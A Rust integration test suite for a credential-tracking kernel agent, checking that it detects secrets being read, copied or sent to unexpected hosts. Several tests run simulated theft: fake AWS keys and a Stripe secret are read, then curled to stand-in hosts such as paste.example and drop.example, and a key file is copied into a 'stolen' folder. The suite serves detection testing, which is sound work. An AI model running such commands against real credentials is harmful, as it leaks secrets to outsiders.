//! Honest and dishonest programs, observed by a real agent on this kernel. Every scenario has its
//! own credentials, and one agent observes them all.

use anyhow::{Context as _, Result};
use lab::{
    agent::Agent,
    server::TlsServer,
    workload::{TestUnit, aws_credentials, sh},
};
use serde_json::Value;
use std::{
    path::PathBuf,
    sync::{LazyLock, Mutex, MutexGuard},
};
use tempfile::TempDir;

struct ScenarioLab {
    agent: Agent,
    server: TlsServer,
    six: TlsServer,
    directory: TempDir,
}

/// The policy of the scenarios: places that only they use.
const POLICY: &str = "
credentials:
  - name: lab-stripe
    match: { file: /run/secrets/keytrail-lab/stripe }
    owner: team-payments
    readers: [ { unit: lab-api.service } ]
    destinations: [ 'api.partner.example' ]
  - name: lab-variable
    match: { environment: KEYTRAIL_LAB_* }
    destinations: [ 'good.example' ]
";

static SCENE: LazyLock<Mutex<ScenarioLab>> = LazyLock::new(|| {
    let build = || -> Result<ScenarioLab> {
        assert!(
            lab::is_root(),
            "the scenarios need root; `cargo xtask test` skips them without"
        );
        let directory = tempfile::tempdir()?;
        let config = directory.path().join("config.yaml");
        std::fs::write(&config, POLICY)?;
        let config = config.display().to_string();
        Ok(ScenarioLab {
            agent: Agent::start(directory.path(), &["--config", &config])?,
            server: TlsServer::start("127.0.0.1")?,
            six: TlsServer::start("::1")?,
            directory,
        })
    };
    Mutex::new(build().expect("the scene is set"))
});

/// One scenario at a time: each is evaluated by its own effects.
fn scene() -> MutexGuard<'static, ScenarioLab> {
    SCENE
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

impl ScenarioLab {
    fn curl(&self, host: &str) -> String {
        let port = self.server.address.port();
        format!("curl -sS --insecure --connect-to ::127.0.0.1:{port} https://{host}/ >/dev/null")
    }

    /// A new AWS credentials file; its number makes the key unique.
    fn key(&self, number: u32) -> Result<PathBuf> {
        let home = self.directory.path().join(format!("home-{number}"));
        std::fs::create_dir_all(&home)?;
        aws_credentials(
            &home,
            &format!("AKIAFAKELAB{number:09}"),
            &format!("FAKE/lab/secret/{number:024}"),
        )
    }

    fn hops(&self, credential: &str, wanted: impl Fn(&[Value]) -> bool) -> Result<Vec<Value>> {
        let answer = self
            .agent
            .await_json(&["query", "where", credential], |answer| {
                answer["hops"].as_array().is_some_and(|hops| wanted(hops))
            })?;
        Ok(answer["hops"].as_array().cloned().unwrap_or_default())
    }

    /// The id of the only credential in an answer.
    fn id(&self, credential: &str) -> Result<String> {
        let answer = self
            .agent
            .await_json(&["query", "who", credential], |answer| {
                answer["uses"]
                    .as_array()
                    .is_some_and(|uses| !uses.is_empty())
            })?;
        Ok(answer["credentials"][0]["id"]
            .as_str()
            .context("no id")?
            .to_owned())
    }
}

fn names(hops: &[Value]) -> Vec<&str> {
    hops.iter()
        .filter_map(|hop| hop["destination"]["name"].as_str())
        .collect()
}

#[test]
fn a_key_at_its_issuer_and_elsewhere() -> Result<()> {
    let scene = scene();
    let key = scene.key(1)?.display().to_string();
    let good = TestUnit::new("lab-good.service")?;
    let bad = TestUnit::new("lab-bad.service")?;
    good.sh(
        &format!(
            "K=$(cat {key}); {}",
            scene.curl("s3.eu-central-1.amazonaws.com")
        ),
        &[],
    )?;
    bad.sh(
        &format!("K=$(cat {key}); {}", scene.curl("paste.example")),
        &[],
    )?;
    let hops = scene.hops(&key, |hops| hops.len() == 2)?;
    assert_eq!(
        names(&hops),
        ["paste.example", "s3.eu-central-1.amazonaws.com"],
        "the worst first"
    );
    assert_eq!(hops[0]["verdict"], "unexpected");
    assert_eq!(hops[0]["evidence"], "sole");
    assert_eq!(hops[0]["workload"]["unit"], "lab-bad.service");
    assert_eq!(hops[0]["destination"]["name_source"], "sni");
    assert_eq!(hops[1]["verdict"], "expected");
    let id = scene.id(&key)?;
    let finding = scene.agent.await_finding(|finding| {
        finding["rule"] == "unexpected-hop" && finding["credential"]["id"] == id.as_str()
    })?;
    assert_eq!(finding["severity"], "low", "nobody wrote an expectation");
    assert_eq!(finding["destination"]["name"], "paste.example");
    assert_eq!(finding["process"]["comm"], "curl");
    let ancestors = finding["process"]["ancestors"]
        .as_array()
        .context("ancestors")?;
    assert!(
        ancestors.iter().any(|ancestor| ancestor["comm"] == "bash"),
        "{ancestors:?}"
    );
    let radius =
        scene
            .agent
            .await_json(&["query", "blast-radius", "lab-bad.service"], |answer| {
                answer["credentials"]
                    .as_array()
                    .is_some_and(|found| !found.is_empty())
            })?;
    assert_eq!(radius["credentials"][0]["credential"]["id"], id.as_str());
    let labels = [
        r#"evidence="sole""#,
        r#"verdict="unexpected""#,
        r#"workload="lab-bad.service""#,
    ];
    assert!(scene.agent.metric("keytrail_hops_total", &labels)? >= 1.0);
    Ok(())
}

#[test]
fn a_token_in_the_environment_is_fingerprinted_in_the_kernel() -> Result<()> {
    let scene = scene();
    let token = "ghp_FAKElabFAKElabFAKElabFAKElabFAKE0002";
    sh(
        &format!("{} # {}", scene.curl("api.github.com"), 2),
        &[("GH_TOKEN", token)],
    )?;
    let hops = scene.hops("env:GH_TOKEN", |hops| !hops.is_empty())?;
    assert_eq!(names(&hops), ["api.github.com"]);
    assert_eq!(hops[0]["verdict"], "expected");
    // The same token in a file has the same id: kernel and agent compute the same fingerprint.
    let home = scene.directory.path().join("gh/.config/gh");
    std::fs::create_dir_all(&home)?;
    let file = home.join("hosts.yml");
    std::fs::write(
        &file,
        format!("github.com:\n    oauth_token: {token}\n    user: fake\n"),
    )?;
    sh(&format!("cat {} >/dev/null", file.display()), &[])?;
    assert_eq!(
        scene.id(&file.display().to_string())?,
        scene.id("env:GH_TOKEN")?
    );
    Ok(())
}

#[test]
fn long_and_quoted_secrets_have_one_fingerprint_everywhere() -> Result<()> {
    let scene = scene();
    for (number, secret) in [
        (0, "FAKE-lab-short".to_owned()),
        (1, "FAKE".repeat(1300)),
        (2, "FAKEx".repeat(8)),
    ] {
        let name = format!("KEYTRAIL_LAB_{number}_TOKEN");
        let dressed = format!("{name}_DRESSED_TOKEN");
        sh(
            "true && /bin/true",
            &[
                (&name, &secret),
                (&dressed, &format!("  \"Bearer {secret}\" ")),
            ],
        )?;
        let directory = PathBuf::from(format!("/run/secrets/keytrail-lab-{number}"));
        std::fs::create_dir_all(&directory)?;
        std::fs::write(directory.join("any-name"), format!("{secret}\n"))?;
        sh(
            &format!("cat {}/any-name > /dev/null", directory.display()),
            &[],
        )?;
        let by_file = scene.id(&format!("{}/any-name", directory.display()));
        std::fs::remove_dir_all(&directory)?;
        let by_file = by_file?;
        assert_eq!(
            scene.id(&format!("env:{name}"))?,
            by_file,
            "secret {number}"
        );
        assert_eq!(
            scene.id(&format!("env:{dressed}"))?,
            by_file,
            "dressed secret {number}"
        );
    }
    Ok(())
}

#[test]
fn a_token_is_classified_by_its_prefix_under_any_name() -> Result<()> {
    let scene = scene();
    sh(
        "/bin/true; /bin/true",
        &[
            ("LAB_ODD", "sk-ant-FAKElabFAKElabFAKElabFAKE16"),
            ("LAB_PLAIN", "nothing-in-particular-but-quite-long"),
        ],
    )?;
    let answer = scene
        .agent
        .await_json(&["query", "who", "env:LAB_ODD"], |answer| {
            answer["uses"]
                .as_array()
                .is_some_and(|uses| !uses.is_empty())
        })?;
    assert_eq!(answer["credentials"][0]["class"], "anthropic-key");
    assert!(
        scene
            .agent
            .json(&["query", "who", "env:LAB_PLAIN"])?
            .is_none()
    );
    Ok(())
}

#[test]
fn an_aws_key_pair_in_the_environment_is_the_one_in_the_file() -> Result<()> {
    let scene = scene();
    let key = scene.key(3)?.display().to_string();
    sh(&format!("cat {key} >/dev/null"), &[])?;
    let environment = [
        ("AWS_ACCESS_KEY_ID", "AKIAFAKELAB000000003"),
        (
            "AWS_SECRET_ACCESS_KEY",
            "FAKE/lab/secret/000000000000000000000003",
        ),
    ];
    sh("/bin/true; /bin/true", &environment)?;
    let id = scene.id(&key)?;
    let answer = scene.agent.await_json(&["query", "who", &id], |answer| {
        let sources: Vec<&str> = answer["uses"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|used| used["source"].as_str())
            .collect();
        sources.contains(&"file") && sources.contains(&"environment")
    })?;
    assert_eq!(answer["credentials"].as_array().map(Vec::len), Some(1));
    Ok(())
}

#[test]
fn the_path_comes_from_the_kernel() -> Result<()> {
    let scene = scene();
    let key = scene.key(4)?;
    let home = key
        .parent()
        .and_then(|path| path.parent())
        .context("a home")?;
    let link = scene.directory.path().join("innocent.txt");
    std::os::unix::fs::symlink(&key, &link)?;
    sh(&format!("cat {} >/dev/null", link.display()), &[])?;
    sh(
        &format!(
            "cd {} && cat ./x/../.aws/credentials >/dev/null 2>&1 || cat .aws/./credentials >/dev/null",
            home.display()
        ),
        &[],
    )?;
    let answer = scene
        .agent
        .await_json(&["query", "who", &key.display().to_string()], |answer| {
            answer["uses"][0]["count"].as_u64() >= Some(2)
        })?;
    assert_eq!(answer["uses"][0]["workload"]["kind"], "host");
    Ok(())
}

#[test]
fn a_hard_link_is_known_by_its_inode() -> Result<()> {
    let scene = scene();
    let key = scene.key(5)?;
    sh(&format!("cat {} >/dev/null", key.display()), &[])?;
    let id = scene.id(&key.display().to_string())?;
    let other = scene.directory.path().join("home-5/other/.aws/credentials");
    std::fs::create_dir_all(other.parent().context("a parent")?)?;
    std::fs::hard_link(&key, &other)?;
    sh(&format!("cat {} >/dev/null", other.display()), &[])?;
    assert_eq!(scene.id(&other.display().to_string())?, id);
    Ok(())
}

#[test]
fn every_read_counts_once() -> Result<()> {
    let scene = scene();
    let key = scene.key(6)?.display().to_string();
    sh(&format!("for i in $(seq 500); do : < {key}; done"), &[])?;
    scene.agent.await_json(&["query", "who", &key], |answer| {
        answer["uses"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|used| used["count"].as_u64())
            .sum::<u64>()
            == 500
    })?;
    Ok(())
}

#[test]
fn ipv6_and_a_second_connection() -> Result<()> {
    let scene = scene();
    let key = scene.key(7)?.display().to_string();
    let port = scene.six.address.port();
    sh(
        &format!(
            "K=$(cat {key}); curl -sS --insecure --connect-to '::[::1]:{port}' https://six.example/ >/dev/null; {}",
            scene.curl("four.example")
        ),
        &[],
    )?;
    let hops = scene.hops(&key, |hops| hops.len() == 2)?;
    let mut found = names(&hops);
    found.sort_unstable();
    assert_eq!(found, ["four.example", "six.example"]);
    assert!(
        hops.iter()
            .any(|hop| hop["destination"]["address"] == "::1")
    );
    Ok(())
}

#[test]
fn two_credentials_are_held_and_raise_nothing() -> Result<()> {
    let scene = scene();
    let key = scene.key(8)?.display().to_string();
    sh(
        &format!("K=$(cat {key}); {}", scene.curl("telemetry.example")),
        &[("HF_TOKEN", "hf_FAKElabFAKElabFAKElabFAKElab08")],
    )?;
    let hops = scene.hops(&key, |hops| !hops.is_empty())?;
    assert_eq!(hops[0]["evidence"], "held");
    assert_eq!(hops[0]["verdict"], "unproven");
    let id = scene.id(&key)?;
    let raised: Vec<_> = scene
        .agent
        .findings()?
        .into_iter()
        .filter(|finding| {
            finding["rule"] == "unexpected-hop" && finding["credential"]["id"] == id.as_str()
        })
        .collect();
    assert!(raised.is_empty(), "{raised:?}");
    Ok(())
}

#[test]
fn unnamed_loopback_is_no_hop() -> Result<()> {
    let scene = scene();
    let key = scene.key(9)?.display().to_string();
    let port = scene.server.address.port();
    sh(
        &format!(
            "K=$(cat {key}); exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3; exec 3>&-; {}",
            scene.curl("after.example")
        ),
        &[],
    )?;
    let hops = scene.hops(&key, |hops| names(hops).contains(&"after.example"))?;
    assert_eq!(hops.len(), 1, "{hops:?}");
    Ok(())
}

#[test]
fn written_expectations() -> Result<()> {
    let scene = scene();
    let path = PathBuf::from("/run/secrets/keytrail-lab");
    std::fs::create_dir_all(&path)?;
    std::fs::write(path.join("stripe"), "sk_live_FAKElabFAKElabFAKElab0010\n")?;
    let api = TestUnit::new("lab-api.service")?;
    let thief = TestUnit::new("lab-thief.service")?;
    let read = |host: &str| {
        format!(
            "K=$(cat /run/secrets/keytrail-lab/stripe); {}",
            scene.curl(host)
        )
    };
    let ran = api
        .sh(&read("api.partner.example"), &[])
        .and_then(|_| api.sh(&read("api.stripe.com"), &[]))
        .and_then(|_| thief.sh(&read("drop.example"), &[]));
    let found = ran.and_then(|_| scene.hops("lab-stripe", |hops| hops.len() == 3));
    std::fs::remove_dir_all(&path)?;
    let hops = found?;
    let verdict = |name: &str| {
        hops.iter()
            .find(|hop| hop["destination"]["name"] == name)
            .map(|hop| hop["verdict"].clone())
    };
    assert_eq!(
        verdict("api.partner.example"),
        Some("expected".into()),
        "written"
    );
    assert_eq!(
        verdict("api.stripe.com"),
        Some("expected".into()),
        "its home"
    );
    assert_eq!(verdict("drop.example"), Some("unexpected".into()));
    let finding = scene.agent.await_finding(|finding| {
        finding["rule"] == "unexpected-hop" && finding["credential"]["name"] == "lab-stripe"
    })?;
    assert_eq!(finding["severity"], "medium", "an expectation was written");
    let finding = scene
        .agent
        .await_finding(|finding| finding["rule"] == "unexpected-reader")?;
    assert_eq!(finding["severity"], "high");
    assert_eq!(finding["workload"]["unit"], "lab-thief.service");
    assert_eq!(finding["credential"]["owner"], "team-payments");
    Ok(())
}

#[test]
fn a_copy_is_found() -> Result<()> {
    let scene = scene();
    let key = scene.key(11)?;
    let copy = scene.directory.path().join("stolen/.aws");
    std::fs::create_dir_all(&copy)?;
    sh(
        &format!(
            "cp {} {}/credentials && cat {}/credentials >/dev/null",
            key.display(),
            copy.display(),
            copy.display()
        ),
        &[],
    )?;
    let id = scene.id(&key.display().to_string())?;
    let finding = scene.agent.await_finding(|finding| {
        finding["rule"] == "credential-copied" && finding["credential"]["id"] == id.as_str()
    })?;
    assert_eq!(finding["severity"], "low");
    Ok(())
}

#[test]
fn a_read_at_a_terminal_is_human_use() -> Result<()> {
    let scene = scene();
    let path = scene.directory.path().join("service/.netrc");
    std::fs::create_dir_all(path.parent().context("a parent")?)?;
    std::fs::write(
        &path,
        "machine a.example login b password FAKE-lab-netrc-12\n",
    )?;
    // `script` gives the command a terminal of its own.
    sh(
        &format!("script -qec 'cat {}' /dev/null >/dev/null", path.display()),
        &[],
    )?;
    let id = scene.id(&path.display().to_string())?;
    let finding = scene.agent.await_finding(|finding| {
        finding["rule"] == "human-use" && finding["credential"]["id"] == id.as_str()
    })?;
    assert_eq!(finding["severity"], "low");
    Ok(())
}

#[test]
fn a_jwt_has_its_expiry() -> Result<()> {
    let scene = scene();
    // {"alg":"none"} . {"sub":"system:serviceaccount:shop:api","aud":"https://kubernetes.default.svc","iat":1600000000,"exp":1600003600} . fake
    let token = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6c2hvcDphcGkiLCJhdWQiOiJodHRwczovL2t1YmVybmV0ZXMuZGVmYXVsdC5zdmMiLCJpYXQiOjE2MDAwMDAwMDAsImV4cCI6MTYwMDAwMzYwMH0.ZmFrZQ";
    let path = PathBuf::from("/run/secrets/keytrail-lab-jwt");
    std::fs::create_dir_all(&path)?;
    std::fs::write(path.join("token"), token)?;
    let ran = sh(
        &format!(
            "K=$(cat {}/token); {}",
            path.display(),
            scene.curl("kubernetes.default.svc")
        ),
        &[],
    );
    let file = format!("{}/token", path.display());
    let found = ran.and_then(|_| scene.hops(&file, |hops| !hops.is_empty()));
    std::fs::remove_dir_all(&path)?;
    assert_eq!(found?[0]["verdict"], "expected");
    let answer = scene.agent.await_json(&["inventory"], |_| true)?;
    let item = answer["credentials"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|item| {
            item["sources"]
                .as_array()
                .is_some_and(|places| places.iter().any(|place| place["place"] == file.as_str()))
        })
        .context("in the inventory")?;
    assert_eq!(item["class"], "k8s-service-account-token");
    assert_eq!(item["role"], "identity");
    assert_eq!(item["lifetime"], "short-lived");
    assert_eq!(item["expires_at"], "2020-09-13T13:26:40Z");
    scene.agent.await_finding(|finding| {
        finding["rule"] == "expired-credential-used" && finding["credential"]["id"] == item["id"]
    })?;
    Ok(())
}

#[test]
fn files_without_credentials_are_not_reported() -> Result<()> {
    let scene = scene();
    let directory = scene.directory.path().join("plain");
    std::fs::create_dir_all(directory.join(".ssh"))?;
    let plain = [
        "config.json",
        "credentials",
        "token",
        "ca.crt",
        ".ssh/known_hosts",
        ".ssh/id_rsa.pub",
        ".env.example",
    ];
    for name in plain {
        std::fs::write(
            directory.join(name),
            "SOME_TOKEN=FAKE-plain-value-12345678\n",
        )?;
    }
    let files: Vec<String> = plain
        .iter()
        .map(|name| directory.join(name).display().to_string())
        .collect();
    sh(
        &format!(
            "cat /etc/passwd {} > /dev/null; ls /etc/ssl/certs | head -3 >/dev/null",
            files.join(" ")
        ),
        &[],
    )?;
    // Later records in the same ring have been evaluated, so these were too.
    let key = scene.key(13)?.display().to_string();
    sh(&format!("cat {key} >/dev/null"), &[])?;
    scene.id(&key)?;
    for file in files
        .iter()
        .map(String::as_str)
        .chain(["/etc/passwd", "env:PWD", "env:PATH"])
    {
        assert!(
            scene.agent.json(&["query", "who", file])?.is_none(),
            "{file}"
        );
    }
    Ok(())
}

#[test]
fn answers_over_http_are_those_of_the_cli() -> Result<()> {
    let scene = scene();
    let key = scene.key(14)?.display().to_string();
    sh(
        &format!("K=$(cat {key}); {}", scene.curl("http.example")),
        &[],
    )?;
    scene.hops(&key, |hops| !hops.is_empty())?;
    for path in ["credentials", "workloads", "hops", "findings", "timeline"] {
        let (status, body) = scene.agent.get(&format!("/api/v1/{path}"))?;
        assert_eq!(status, 200, "{path}: {body}");
        let _: Value = serde_json::from_str(&body).with_context(|| path.to_owned())?;
    }
    let (status, body) = scene
        .agent
        .get(&format!("/api/v1/where?credential={key}"))?;
    assert_eq!(status, 200, "{body}");
    let over_http: Value = serde_json::from_str(&body)?;
    let by_cli = scene
        .agent
        .json(&["query", "where", &key])?
        .context("an answer")?;
    assert_eq!(over_http["hops"], by_cli["hops"]);
    for (path, wanted) in [
        ("/api/v1/where", 400),
        ("/api/v1/where?credential=kt-nothing", 404),
        ("/api/v1/blast-radius?workload=/nowhere", 404),
        ("/api/v1/findings?since=yesterday", 400),
        ("/api/v1/findings?rule=unexpected-hops", 400),
        ("/api/v1/findings?severity=bad", 400),
        ("/api/v1/findings?severity=high&rule=unexpected-hop", 200),
        ("/api/v1/hops?workload=/nowhere", 404),
        ("/api/v1/hops?credentials=kt-nothing", 400),
        ("/healthz", 200),
        ("/nothing", 404),
    ] {
        assert_eq!(scene.agent.get(path)?.0, wanted, "{path}");
    }
    Ok(())
}

#[test]
fn nothing_is_lost_and_losses_are_counted() -> Result<()> {
    let scene = scene();
    let key = scene.key(15)?.display().to_string();
    sh(
        &format!("for i in $(seq 300); do /bin/true; done; cat {key} >/dev/null"),
        &[],
    )?;
    scene.id(&key)?;
    assert_eq!(
        scene
            .agent
            .metric("keytrail_events_lost_total", &[r#"stage="ring""#])?,
        0.0
    );
    assert!(
        scene
            .agent
            .metric("keytrail_events_total", &[r#"probe="process""#])?
            >= 900.0
    );
    assert_eq!(
        scene
            .agent
            .metric("keytrail_probe_attached", &[r#"probe="hello""#])?,
        1.0
    );
    Ok(())
}

/// Neither its name nor its place is a credential's; a variable points to it, through a link and in
/// a list.
#[test]
fn a_file_that_a_variable_points_to() -> Result<()> {
    let scene = scene();
    let directory = scene.directory.path().join("pointed");
    std::fs::create_dir(&directory)?;
    let (real, link) = (directory.join("of-the-cluster"), directory.join("current"));
    std::fs::write(
        &real,
        "apiVersion: v1\nkind: Config\nusers:\n- name: lab\n  user: { token: FAKE-pointed-token-0001 }\n",
    )?;
    std::os::unix::fs::symlink(&real, &link)?;
    let key = directory.join("sa.json");
    std::fs::write(&key, r#"{ "private_key": "FAKE-pointed-key-0002" }"#)?;
    let unit = TestUnit::new("lab-pointed.service")?;
    let list = format!("/nonexistent/config:{}", link.display());
    // Each twice: the first program with such a value may be faster than the agent.
    unit.sh(
        &format!(
            "for i in 1 2; do python3 -c 'import sys; [open(path).read() for path in sys.argv[1:]]' {} {}; done",
            link.display(),
            key.display()
        ),
        &[
            ("KUBECONFIG", &list),
            ("GOOGLE_APPLICATION_CREDENTIALS", &key.display().to_string()),
        ],
    )?;
    for (path, class) in [
        (&link, "kubeconfig"),
        (&real, "kubeconfig"),
        (&key, "gcp-service-account-key"),
    ] {
        let path = path.display().to_string();
        let who = scene.agent.await_json(&["query", "who", &path], |answer| {
            answer["uses"]
                .as_array()
                .is_some_and(|uses| !uses.is_empty())
        })?;
        assert_eq!(who["credentials"][0]["class"], class, "{path}");
        assert_eq!(who["uses"][0]["source"], "file", "{path}");
        assert_eq!(who["uses"][0]["workload"]["unit"], "lab-pointed.service");
    }
    Ok(())
}

/// What is issued at a socket is held by the process that connected, whatever name of the socket it
/// used.
#[test]
fn an_identity_from_a_unix_socket() -> Result<()> {
    let scene = scene();
    let unit = TestUnit::new("lab-svid.service")?;
    let asks = "
import os, socket
def listen(path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    return listener
listening = [listen('/tmp/spire-agent/public/api.sock'), listen('/tmp/other.sock')]
os.symlink('/tmp/spire-agent/public/api.sock', '/tmp/by-another-name')
for path in ['/tmp/other.sock', '/tmp/by-another-name']:
    socket.socket(socket.AF_UNIX).connect(path)
os.execvp('bash', ['bash', '-c', os.environ['REQUEST']])";
    unit.sh(
        "unshare --mount bash -ec 'mount -t tmpfs none /tmp; mkdir -p /tmp/spire-agent/public; exec python3 -c \"$ASKS\"'",
        &[("ASKS", asks), ("REQUEST", &scene.curl("mesh.example"))],
    )?;
    let hops = scene.hops("/tmp/spire-agent/public/api.sock", |hops| hops.len() == 1)?;
    assert_eq!(names(&hops), ["mesh.example"]);
    assert_eq!(hops[0]["evidence"], "sole");
    assert_eq!(hops[0]["workload"]["unit"], "lab-svid.service");
    let who = scene.agent.await_json(
        &["query", "who", "/tmp/spire-agent/public/api.sock"],
        |_| true,
    )?;
    assert_eq!(who["uses"][0]["source"], "socket");
    assert_eq!(who["credentials"][0]["class"], "spiffe-svid");
    assert_eq!(who["credentials"][0]["role"], "identity");
    Ok(())
}
